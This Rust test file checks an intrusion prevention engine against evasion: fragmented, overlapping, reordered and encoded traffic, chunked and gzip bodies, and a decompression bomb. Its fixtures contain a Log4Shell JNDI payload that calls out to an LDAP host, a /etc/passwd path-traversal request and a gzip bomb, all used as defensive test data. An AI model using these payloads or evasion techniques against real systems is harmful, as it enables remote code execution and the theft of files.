//! The evasion corpus on a whole engine: what a hostile sender does to hide bytes from an
//! inspector that the receiver will still assemble (IP fragments in and out of order,
//! overlapping with other data), and the proof that in prevention the receiver never
//! gets the complete malicious bytes.

use super::keyword_tests::{tcp, Harness};
use super::*;
use testkit::evasion::{chunked, gzip};
use testkit::fragments::{piece, split_every};

const EXPLOIT: &[u8] =
    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: t\r\n\r\n";
const ALERT: &str = "alert tcp any any -> any 80 (content:\"${jndi:\"; sid:1;)";
const DROP: &str = "drop tcp any any -> any 80 (content:\"${jndi:\"; sid:1;)";

/// The exploit's segment as an IPv6 packet.
fn segment_v6(payload: &[u8]) -> Vec<u8> {
    let mut src = [0u8; 16];
    let mut dst = [0u8; 16];
    src[15] = 1;
    dst[15] = 2;
    let mut out = Vec::new();
    etherparse::PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2])
        .ipv6(src, dst, 64)
        .tcp(40000, 80, 101, 65535)
        .ack(1)
        .psh()
        .write(&mut out, payload)
        .unwrap();
    out
}

/// The exploit cut into 8-byte fragments, in order, reversed, and interleaved.
fn fragment_orders(whole: &[u8]) -> Vec<Vec<Vec<u8>>> {
    let frags = split_every(whole, 8, 0x4242);
    let n = frags.len();
    let reversed = frags.iter().rev().cloned().collect();
    let interleaved = (0..n).map(|i| frags[(i * 7) % n].clone()).collect();
    vec![frags, reversed, interleaved]
}

#[test]
fn a_request_split_across_fragments_alerts_once_and_its_last_fragment_is_dropped() {
    for whole in [tcp(true, "AP", 101, EXPLOIT), segment_v6(EXPLOIT)] {
        for frags in fragment_orders(&whole) {
            assert!(frags.len() > 10);
            let mut h = Harness::new(ALERT, Mode::Detection);
            let alerts: Vec<u64> = h.feed(&frags).iter().map(|o| o.alerts).collect();
            let (last, before) = alerts.split_last().unwrap();
            assert_eq!((*last, before.iter().sum::<u64>()), (1, 0));
            assert_eq!(h.engine.counters.defrag.reassembled, 1);

            // Prevention: every fragment but the completing one is forwarded; that one is
            // dropped, so the receiver never holds the whole datagram; the flow's next
            // packet follows the flow's verdict.
            let mut h = Harness::new(DROP, Mode::Prevention);
            let verdicts: Vec<Verdict> = h.feed(&frags).iter().map(|o| o.verdict).collect();
            let (last, before) = verdicts.split_last().unwrap();
            assert_eq!(*last, Verdict::Drop);
            assert!(before.iter().all(|v| *v == Verdict::Pass));
            let next = h.feed_at(&tcp(true, "A", 101 + EXPLOIT.len() as u32, b""), 9_000_000);
            if whole[12] == 0x08 {
                assert_eq!(next.verdict, Verdict::Drop);
            }
        }
    }
}

#[test]
fn overlapping_fragments_are_read_as_the_receiver_reads_them_and_reported() {
    // The bytes at 32..40 of the TCP segment (the request's "${jndi:l" region starts at
    // its byte 8, 28 into the segment) are sent twice: first harmless, then, in a
    // fragment beginning before them and ending with them, the exploit's. Suricata 7's
    // BSD policy keeps the harmless bytes there (the later fragment does not cover the
    // earlier one past its end): no alert, as Suricata; a policy where the covering
    // fragment wins sees the exploit whole.
    let whole = tcp(true, "AP", 101, EXPLOIT);
    let seg = testkit::fragments::payload(&whole).to_vec();
    let mut harmless = seg.clone();
    harmless[24..40].copy_from_slice(b"xxxxxxxxxxxxxxxx");
    let frags = vec![
        piece(&whole, 32, &harmless[32..40], true, 9),
        piece(&whole, 24, &seg[24..40], true, 9),
        piece(&whole, 0, &seg[..24], true, 9),
        piece(&whole, 40, &seg[40..], false, 9),
    ];
    for (policy, alerts) in [
        (crate::defrag::OverlapPolicy::Bsd, 0),
        (crate::defrag::OverlapPolicy::Linux, 1),
        (crate::defrag::OverlapPolicy::Last, 1),
        (crate::defrag::OverlapPolicy::First, 0),
    ] {
        let config = EngineConfig {
            defrag: crate::defrag::DefragConfig {
                policy,
                ..Default::default()
            },
            ..EngineConfig::standalone(Mode::Detection)
        };
        let mut h = Harness::with_config(ALERT, config);
        let got: u64 = h.feed(&frags).iter().map(|o| o.alerts).sum();
        assert_eq!(got, alerts, "{policy:?}");
        assert_eq!(h.anomalies(), ["decoder.ipv4.frag_overlap"]);
    }
}

#[test]
fn a_refused_datagram_is_dropped_to_its_last_fragment_in_prevention() {
    let whole = tcp(true, "AP", 101, EXPLOIT);
    let frags = split_every(&whole, 8, 5);
    let config = EngineConfig {
        defrag: crate::defrag::DefragConfig {
            max_fragments: 4,
            ..Default::default()
        },
        ..EngineConfig::standalone(Mode::Prevention)
    };
    let mut h = Harness::with_config(ALERT, config);
    let verdicts: Vec<Verdict> = h.feed(&frags).iter().map(|o| o.verdict).collect();
    assert!(verdicts[..4].iter().all(|v| *v == Verdict::Pass));
    assert!(verdicts[4..].iter().all(|v| *v == Verdict::Drop));
    assert_eq!(
        h.engine.counters.defrag_drops,
        frags.len() as u64 - 4,
        "{:?}",
        h.engine.counters.defrag
    );
    assert_eq!(h.anomalies(), ["decoder.ipv4.frag_too_many"]);
}

/// The handshake of the test connection (client ISN 100, server ISN 500).
fn handshake() -> Vec<Vec<u8>> {
    vec![
        tcp(true, "S", 100, b""),
        tcp(false, "SA", 500, b""),
        tcp(true, "A", 101, b""),
    ]
}

/// The exploit from sequence number 101 in `n`-byte segments, in `order` (indices).
fn exploit_segments(n: usize, order: &[usize]) -> Vec<Vec<u8>> {
    let chunks: Vec<(u32, &[u8])> = EXPLOIT
        .chunks(n)
        .enumerate()
        .map(|(i, c)| (101 + (i * n) as u32, c))
        .collect();
    order
        .iter()
        .map(|&i| tcp(true, "AP", chunks[i].0, chunks[i].1))
        .collect()
}

#[test]
fn an_exploit_in_reordered_or_tiny_segments_alerts_on_the_segment_completing_it() {
    for n in [1, 8] {
        let k = EXPLOIT.len().div_ceil(n);
        let orders: Vec<Vec<usize>> = vec![
            (0..k).collect(),
            (0..k).rev().collect(),
            (0..k)
                .map(|i| (i * 7) % k)
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect(),
        ];
        for order in orders {
            let mut frames = handshake();
            frames.extend(exploit_segments(n, &order));
            // In order, the match completes at the segment carrying "${jndi:"'s last
            // byte; out of order, at the segment that fills the last gap before it.
            let mut h = Harness::new(ALERT, Mode::Detection);
            let alerts: Vec<u64> = h.feed(&frames).iter().map(|o| o.alerts).collect();
            assert_eq!(alerts.iter().sum::<u64>(), 1, "n {n} {order:?}");

            let mut h = Harness::new(DROP, Mode::Prevention);
            let verdicts: Vec<Verdict> = h.feed(&frames).iter().map(|o| o.verdict).collect();
            let first_drop = verdicts.iter().position(|v| *v == Verdict::Drop).unwrap();
            assert!(verdicts[first_drop..].iter().all(|v| *v == Verdict::Drop));
            // What was forwarded never holds "${jndi:" in order: the receiver's stream
            // stops before the byte that completes it.
            let forwarded: Vec<&Vec<u8>> = frames[3..first_drop].iter().collect();
            let mut stream = vec![0u8; EXPLOIT.len()];
            let mut have = vec![false; EXPLOIT.len()];
            for f in forwarded {
                let p = crate::decode::decode(f).unwrap();
                let L4::Tcp { seq, .. } = p.transport else {
                    unreachable!()
                };
                let at = (seq - 101) as usize;
                stream[at..at + p.payload.len()].copy_from_slice(p.payload);
                have[at..at + p.payload.len()]
                    .iter_mut()
                    .for_each(|b| *b = true);
            }
            let contiguous = have.iter().position(|b| !b).unwrap_or(have.len());
            let pattern = b"${jndi:";
            assert!(
                !stream[..contiguous]
                    .windows(pattern.len())
                    .any(|w| w == pattern),
                "n {n} {order:?}"
            );
        }
    }
}

#[test]
fn data_sent_again_with_other_bytes_is_reported_and_dropped_in_prevention() {
    let mut frames = handshake();
    frames.push(tcp(true, "AP", 101, b"GET /?x=harmless HTTP/1.1\r\n"));
    frames.push(tcp(true, "AP", 101, b"GET /?x=${jndi:l HTTP/1.1\r\n"));
    let mut h = Harness::new(ALERT, Mode::Prevention);
    let verdicts: Vec<Verdict> = h.feed(&frames).iter().map(|o| o.verdict).collect();
    assert_eq!(verdicts[3..], [Verdict::Pass, Verdict::Drop]);
    assert_eq!(h.anomalies(), ["stream.reassembly_overlap_different_data"]);
    assert_eq!(h.engine.counters.stream_conflict_drops, 1);
    // The same sent again unchanged is neither reported nor dropped, nor alerted twice.
    let mut frames = handshake();
    let exploit = tcp(true, "AP", 101, EXPLOIT);
    frames.extend([exploit.clone(), exploit]);
    let mut h = Harness::new(ALERT, Mode::Detection);
    let alerts: Vec<u64> = h.feed(&frames).iter().map(|o| o.alerts).collect();
    assert_eq!(alerts[3..], [1, 0]);
    assert!(h.anomalies().is_empty());
}

#[test]
fn a_full_reassembly_cap_applies_its_policy() {
    use crate::flow::stream::StreamMemcapPolicy;
    // Passing, the stream is no longer inspected, each packet still is: the first
    // segment alone holds the pattern.
    for (policy, verdict, alerts) in [
        (StreamMemcapPolicy::DropFlow, Verdict::Drop, 0),
        (StreamMemcapPolicy::PassFlow, Verdict::Pass, 1),
    ] {
        let config = EngineConfig {
            stream: crate::flow::StreamConfig {
                memcap: 64,
                memcap_policy: policy,
                ..Default::default()
            },
            ..EngineConfig::standalone(Mode::Prevention)
        };
        let mut h = Harness::with_config(ALERT, config);
        let mut frames = handshake();
        // The second half first: more than the cap holds.
        frames.extend(exploit_segments(40, &[1, 0, 2]));
        let got = h.feed(&frames);
        assert_eq!(got[3].verdict, verdict, "{policy:?}");
        assert_eq!(got.iter().map(|o| o.alerts).sum::<u64>(), alerts);
        let c = &h.engine.counters;
        assert_eq!(c.stream.memcap_hits, 1);
        assert_eq!(
            (c.stream_memcap_drops, c.stream_memcap_ignored),
            if verdict == Verdict::Drop {
                (1, 0)
            } else {
                (0, 1)
            }
        );
    }
}

#[test]
fn an_encoded_uri_is_matched_normalized_and_raw() {
    let rules = "alert http any any -> any any (http.uri; content:\"${jndi:\"; sid:1;)\n\
                 alert http any any -> any any (http.uri.raw; content:\"%24%7B%6a\"; sid:2;)\n\
                 alert http any any -> any any (http.uri; content:\"/etc/passwd\"; sid:3;)\n\
                 alert http any any -> any any (content:\"/etc/passwd\"; http_raw_uri; sid:4;)";
    let mut frames = handshake();
    frames.push(tcp(
        true,
        "AP",
        101,
        b"GET /a/..%5c..%2fetc/passwd?x=%24%7B%6a%6e%64%69%3a%u006cdap HTTP/1.1\r\nHost: v\r\n\r\n",
    ));
    let got = Harness::sids(rules, &frames);
    assert_eq!(got[3], [1, 2, 3]);
}

#[test]
fn every_http_buffer_et_open_uses_reads_its_part_of_the_message() {
    let rules = "alert http any any -> any any (http.protocol; content:\"HTTP/1.1\"; bsize:8; sid:1;)\n\
                 alert http any any -> any any (http.start; content:\"GET /x HTTP/1.1|0d 0a|Host\"; content:\"|0d 0a 0d 0a|\"; endswith; sid:2;)\n\
                 alert http any any -> any any (http.accept_enc; content:\"gzip\"; sid:3;)\n\
                 alert http any any -> any any (http.accept_lang; content:\"en\"; sid:4;)\n\
                 alert http any any -> any any (http.connection; content:\"close\"; sid:5;)\n\
                 alert http any any -> any any (http.header.raw; content:\"Accept-Encoding|3a 20|gzip\"; sid:6;)\n\
                 alert http any any -> any any (http.location; content:\"http://evil/\"; sid:7;)\n\
                 alert http any any -> any any (http.content_len; content:\"0\"; bsize:1; sid:8;)\n\
                 alert http any any -> any any (flow:to_client; http.start; content:\"HTTP/1.1 302\"; startswith; sid:9;)";
    let mut frames = handshake();
    let req = b"GET /x HTTP/1.1\r\nHost: v\r\nAccept-Encoding: gzip\r\nAccept-Language: en\r\nConnection: close\r\n\r\n";
    frames.push(tcp(true, "AP", 101, req));
    frames.push(tcp(
        false,
        "AP",
        501,
        b"HTTP/1.1 302 Found\r\nLocation: http://evil/\r\nContent-Length: 0\r\n\r\n",
    ));
    let got = Harness::sids(rules, &frames);
    assert_eq!(got[3], [1, 2, 3, 4, 5, 6]);
    assert_eq!(got[4], [1, 7, 8, 9]);
}

/// The client's `request` as segments cut at `cuts` (byte offsets), after the handshake.
fn request_cut_at(request: &[u8], cuts: &[usize]) -> Vec<Vec<u8>> {
    let mut frames = handshake();
    let mut bounds = vec![0];
    bounds.extend_from_slice(cuts);
    bounds.push(request.len());
    for w in bounds.windows(2) {
        frames.push(tcp(true, "AP", 101 + w[0] as u32, &request[w[0]..w[1]]));
    }
    frames
}

#[test]
fn a_header_block_split_at_every_offset_is_inspected_once_whole() {
    let rules = "alert http any any -> any any (http.user_agent; content:\"${jndi:\"; sid:1;)\n\
                 alert http any any -> any any (http.uri; content:\"/a?b\"; sid:2;)\n\
                 alert http any any -> any any (http.header; content:\"X-Api|3a 20|${jndi\"; sid:3;)";
    let request =
        b"GET /a?b=1 HTTP/1.1\r\nHost: v\r\nUser-Agent: ${jndi:ldap://e/a}\r\nX-Api: ${jndi:x}\r\n\r\n";
    for cut in 1..request.len() {
        let frames = request_cut_at(request, &[cut]);
        let got = Harness::sids(rules, &frames);
        assert_eq!(got[3..].concat(), [1, 2, 3], "cut at {cut}");
        assert_eq!(
            got.last().unwrap(),
            &[1, 2, 3],
            "on the segment completing the head"
        );
    }
    // Two cuts, 1-byte segments.
    let cuts: Vec<usize> = (1..request.len()).collect();
    let got = Harness::sids(rules, &request_cut_at(request, &cuts));
    assert_eq!(got.concat(), [1, 2, 3]);
}

/// A response from the server (ISN 500) carrying `head` then `body`, in `mss`-byte
/// segments, after the handshake and a GET.
fn response_frames(head: &[u8], body: &[u8], mss: usize) -> Vec<Vec<u8>> {
    let request = b"GET / HTTP/1.1\r\nHost: v\r\n\r\n";
    let mut frames = handshake();
    frames.push(tcp(true, "AP", 101, request));
    let mut all = head.to_vec();
    all.extend_from_slice(body);
    for (i, c) in all.chunks(mss).enumerate() {
        frames.push(tcp(false, "AP", 501 + (i * mss) as u32, c));
    }
    frames
}

#[test]
fn response_bodies_chunked_compressed_or_split_are_read_as_the_client_reads_them() {
    let rules = "alert http any any -> any any (file_data; content:\"${jndi:ldap\"; sid:1;)\n\
                 alert http any any -> any any (http.response_body; content:\"${jndi:ldap\"; sid:2;)\n\
                 alert http any any -> any any (http.stat_code; content:\"200\"; sid:3;)";
    let mut page = b"<html>".repeat(300);
    page.extend_from_slice(b"${jndi:ldap://evil/a}</html>");
    let gz = gzip(&page);
    let cases: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        (
            "plain",
            format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", page.len()).into_bytes(),
            page.clone(),
        ),
        (
            "chunked",
            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec(),
            chunked(&page, 7),
        ),
        (
            "gzip",
            format!(
                "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
                gz.len()
            )
            .into_bytes(),
            gz.clone(),
        ),
        (
            "gzip chunked",
            b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec(),
            chunked(&gz, 100),
        ),
    ];
    for (name, head, body) in cases {
        for mss in [5, 300, 1460] {
            let frames = response_frames(&head, &body, mss);
            let mut h = Harness::new(rules, Mode::Detection);
            let outcomes = h.feed(&frames);
            let sids: Vec<u32> = outcomes.iter().flat_map(|o| o.sids.clone()).collect();
            assert_eq!(
                sids.iter().filter(|&&s| s == 1).count(),
                1,
                "{name} mss {mss}: {sids:?}"
            );
            assert_eq!(
                sids.iter().filter(|&&s| s == 2).count(),
                1,
                "{name} mss {mss}"
            );
            assert_eq!(
                sids.iter().filter(|&&s| s == 3).count(),
                1,
                "{name} mss {mss}"
            );
        }
    }
}

/// Contents of 10, 100 and 300 bytes (the last longer than a fast pattern's cap), as
/// body and as stream rules: split anywhere, each alerts once, whether the group's
/// matcher rescans it or the matcher of its long contents does.
#[test]
fn long_contents_split_across_segments_are_found_once() {
    // Letters from a linear congruential sequence: no content repeats within itself.
    let pattern = |seed: u32, n: usize| -> Vec<u8> {
        let mut x = seed;
        (0..n)
            .map(|_| {
                x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
                b'a' + ((x >> 16) % 26) as u8
            })
            .collect()
    };
    let contents = [pattern(1, 10), pattern(2, 100), pattern(3, 300)];
    let mut rules = String::new();
    for (i, c) in contents.iter().enumerate() {
        let hex: String = c.iter().map(|b| format!("{b:02x} ")).collect();
        rules.push_str(&format!(
            "alert http any any -> any any (file_data; content:\"|{hex}|\"; sid:{};)\n\
             alert tcp any 80 -> any any (flow:to_client; content:\"|{hex}|\"; sid:{};)\n",
            i + 1,
            i + 11
        ));
    }
    let mut page = b"<html>".repeat(40);
    for c in &contents {
        page.extend_from_slice(c);
        page.extend_from_slice(&b"<p>".repeat(50));
    }
    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", page.len());
    for mss in [7, 61, 200, 299, 1460] {
        let frames = response_frames(head.as_bytes(), &page, mss);
        let mut sids: Vec<u32> = Harness::sids(&rules, &frames).concat();
        sids.sort_unstable();
        assert_eq!(sids, [1, 2, 3, 11, 12, 13], "mss {mss}");
    }
}

#[test]
fn a_pipelined_request_behind_a_harmless_one_is_inspected() {
    let rules = "drop http any any -> any any (http.uri; content:\"/evil\"; sid:1;)";
    let mut frames = handshake();
    frames.push(tcp(
        true,
        "AP",
        101,
        b"GET /fine HTTP/1.1\r\nHost: v\r\n\r\nGET /evil HTTP/1.1\r\nHost: v\r\n\r\n",
    ));
    let mut h = Harness::new(rules, Mode::Prevention);
    let got = h.feed(&frames);
    assert_eq!(got[3].sids, [1]);
    assert_eq!(got[3].verdict, Verdict::Drop);
}

#[test]
fn a_decompression_bomb_is_cut_and_reported() {
    let bomb = gzip(&vec![b'A'; 20 << 20]);
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        bomb.len()
    );
    let frames = response_frames(head.as_bytes(), &bomb, 1460);
    let mut h = Harness::new(
        "alert http any any -> any any (file_data; content:\"AAAA\"; sid:1;)",
        Mode::Detection,
    );
    h.feed(&frames);
    let c = h.engine.counters.http;
    assert_eq!((c.bodies_truncated, c.decompression_bombs), (1, 1), "{c:?}");
    assert_eq!(h.anomalies(), ["COMPRESSION_BOMB"]);
    assert!(c.memuse < 1 << 20);
}

#[test]
fn without_body_rules_bodies_are_framed_but_not_kept() {
    // No rule reads a body: a gzip body is skipped by its framing, unread, and the
    // next response on the connection is still found.
    let gz = gzip(&b"<html>".repeat(5000));
    let mut body = format!(
        "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        gz.len()
    )
    .into_bytes();
    body.extend_from_slice(&gz);
    body.extend_from_slice(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    let mut frames = handshake();
    frames.push(tcp(
        true,
        "AP",
        101,
        b"GET /a HTTP/1.1\r\nHost: v\r\n\r\nGET /b HTTP/1.1\r\nHost: v\r\n\r\n",
    ));
    for (i, c) in body.chunks(1000).enumerate() {
        frames.push(tcp(false, "AP", 501 + (i * 1000) as u32, c));
    }
    let mut h = Harness::new(
        "alert http any any -> any any (http.stat_code; content:\"404\"; sid:1;)",
        Mode::Detection,
    );
    let alerts: u64 = h.feed(&frames).iter().map(|o| o.alerts).sum();
    assert_eq!(alerts, 1);
    assert_eq!(h.engine.counters.http.responses, 2);
    assert!(h.engine.counters.http.memuse < 16 << 10);
}
